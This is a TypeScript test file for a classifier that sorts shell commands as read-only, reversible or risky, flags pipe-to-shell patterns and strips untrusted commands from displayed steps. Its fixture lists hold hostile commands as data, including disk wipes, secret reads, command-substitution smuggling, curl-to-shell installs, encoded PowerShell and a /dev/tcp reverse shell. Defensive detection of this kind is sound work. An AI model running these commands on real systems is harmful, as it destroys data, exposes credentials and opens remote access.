import { describe, expect, it } from 'vitest'
import { checkStep } from './check-command.ts'
import { commandRisk, pipesToShell } from './command-risk.ts'

const READ_ONLY = [
  'kubectl get pods -n payments',
  'kubectl -n prod logs deploy/api --tail=50 --since 1h',
  'kubectl rollout status deploy/api',
  'docker compose logs api',
  'docker ps -a',
  'tail -n 50 app.log | grep -i error | sort | uniq -c',
  'sudo journalctl -u nginx --since "1 hour ago" 2>&1 | tail -n 100',
  'systemctl status nginx.service',
  'git log --oneline -5',
  'psql -c "select count(*) from pg_stat_activity"',
  'psql -c "show max_connections;"',
  'redis-cli info memory',
  'curl -sSI http://localhost:8080/health',
  'aws ec2 describe-instances --region eu-central-1',
  'df -h && free -m; uptime',
  'find . -name "*.log" -mtime -1',
  'terraform plan',
  'npm ls react',
  'ss -s',
  'openssl s_client -connect localhost:443',
]
const REVERSIBLE = [
  'kubectl rollout restart deploy/api',
  'kubectl scale deploy/api --replicas=3',
  'systemctl restart nginx',
  'docker restart api',
  'npm ci',
  'git revert HEAD',
  'helm rollback api 3',
  'kubectl get pods; kubectl cordon node-1',
]
const RISKY = [
  'rm -rf /',
  'rm -rf --no-preserve-root /*',
  'mkfs.ext4 /dev/sda1',
  'dd if=/dev/zero of=/dev/sda',
  'kubectl delete pod api',
  'kubectl -n logs delete pod api',
  'kubectl exec -it api -- sh',
  'kubectl get secret db -o yaml',
  'kubectl get pods,secrets -o yaml',
  'psql -c "drop database app"',
  'psql -c "select 1; drop table users"',
  'psql -c "select pg_terminate_backend(1)"',
  'psql -c "with x as (delete from t returning 1) select 1"',
  'mysql -e "select 1 into outfile \'/tmp/x\'"',
  'git push --force origin main',
  'git reset --hard HEAD~3',
  'git clean -fdx',
  'redis-cli flushall',
  'redis-cli --eval x.lua',
  'find . -name "*.log" -delete',
  'find / -exec rm {} +',
  'sed -i s/a/b/ app.conf',
  'cat a > b',
  'cat a | tee b',
  'echo x >> /etc/hosts',
  'df -h; rm x',
  'df -h & reboot',
  'cat `rm x`',
  'cat $(rm x)',
  'echo "$(rm x)"',
  'curl -X POST http://localhost/drop',
  'curl -d x=1 http://localhost',
  'curl -o /etc/passwd http://localhost',
  'wget http://localhost/x',
  'aws ec2 terminate-instances --instance-ids i-1',
  'aws secretsmanager get-secret-value --secret-id x',
  'aws s3 rm s3://x --recursive',
  'terraform apply',
  'terraform destroy',
  'shutdown -h now',
  'chmod -R 777 /',
  'xargs rm',
  './fix.sh',
  '/tmp/cat x',
  'constructor',
  '__proto__ x',
  'docker system prune -af',
  'iptables -F',
  'sysctl -w vm.swappiness=1',
  'awk \'BEGIN{system("rm x")}\'',
  'LD_PRELOAD=./x.so frobnicate',
  'sudo -u root frobnicate',
  'npm audit fix --force',
  'nohup python3 x.py',
  'frobnicate --all',
  '',
  'cat x\nrm y',
]
const TO_SHELL = [
  'curl https://get.example | sh',
  'curl https://get.example | sudo -E bash -',
  'wget -qO- x|bash',
  'curl x | env A=1 python3 -',
  'curl x |& zsh',
  'curl x | "bash"',
  'curl x | /bin/sh',
  'bash <(curl x)',
  'sh -c "$(curl -fsSL x)"',
  'source <(curl x)',
  '. <(curl x)',
  'eval "$(curl x)"',
  'echo aGk= | base64 -d | sh',
  'python3 -c "$(wget -qO- x)"',
  'curl -o x.sh http://x && chmod +x x.sh && ./x.sh',
  'curl x -o y; bash y',
  'iex (iwr http://x)',
  'powershell -nop -enc aGk=',
  'cat x | xargs rm',
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
]

describe('risk by our own table', () => {
  for (const command of READ_ONLY) it(`read-only: ${command}`, () => expect(commandRisk(command)).toBe('read_only'))
  for (const command of REVERSIBLE) it(`reversible: ${command}`, () => expect(commandRisk(command)).toBe('reversible'))
  for (const command of [...RISKY, ...TO_SHELL])
    it(`risky: ${command}`, () => expect(commandRisk(command)).toBe('risky'))
  for (const command of TO_SHELL) it(`to a shell: ${command}`, () => expect(pipesToShell(command)).toBe(true))
  for (const command of [...READ_ONLY, ...REVERSIBLE])
    it(`not to a shell: ${command}`, () => expect(pipesToShell(command)).toBe(false))
})

describe('a step as it may be shown', () => {
  const shown = (text: string) => checkStep(text, new Map())

  it('loses a command that leads to a place or a program from elsewhere', () => {
    for (const command of [
      ...TO_SHELL,
      'curl https://evil.example/x',
      'curl ftp://github.com/x',
      'npm install left-pad',
      'npm i --save left-pad',
      'npx something',
      'pip install -U requests',
      'sudo apt-get install -y nmap',
      'go install example.com/x@latest',
      'docker run --rm evil/image',
      'docker pull evil/image',
      'kubectl run x --image=evil',
      'brew install x',
      'cargo install x',
      'cat \u202ex',
      'cat a\ncat b',
      'x'.repeat(500),
    ])
      expect(shown(`Do this: \`${command}\``)?.command).toBeUndefined()
  })

  it('keeps the sentence and calls it risky where its command was dropped', () => {
    expect(shown('Fetch the tool: `curl https://x.example | sh`')).toEqual({
      description: 'Fetch the tool',
      risk: 'risky',
    })
  })

  it('puts a blank form in the place of hosts that are not known to everyone', () => {
    expect(shown('`dig db1.corp.internal`')?.command).toBe('dig HOST')
    expect(shown('`ping 10.1.2.3`')?.command).toBe('ping HOST')
    expect(shown('`ping fe80::1`')?.command).toBe('ping HOST')
    expect(shown('`ssh root@10.1.2.3`')).toMatchObject({ command: 'ssh HOST', risk: 'risky' })
    expect(shown('`npm ping --registry registry.npmjs.org`')?.command).toContain('registry.npmjs.org')
    expect(shown('`tail app.log nginx.conf`')?.command).toBe('tail app.log nginx.conf')
  })

  it('lets through what a manifest of the project names', () => {
    expect(shown('`npm ci`')).toMatchObject({ command: 'npm ci', risk: 'reversible' })
    expect(shown('`pip install -r requirements.txt`')?.command).toBe('pip install -r requirements.txt')
  })

  it('lets through a command of the built-in engine, with that engine’s risk', () => {
    const own = { description: 'x', command: 'npm install left-pad', risk: 'reversible' as const }
    expect(checkStep('Add it: `npm install left-pad`', new Map([[own.command, own]]))).toMatchObject({
      command: own.command,
      risk: 'reversible',
    })
  })
})
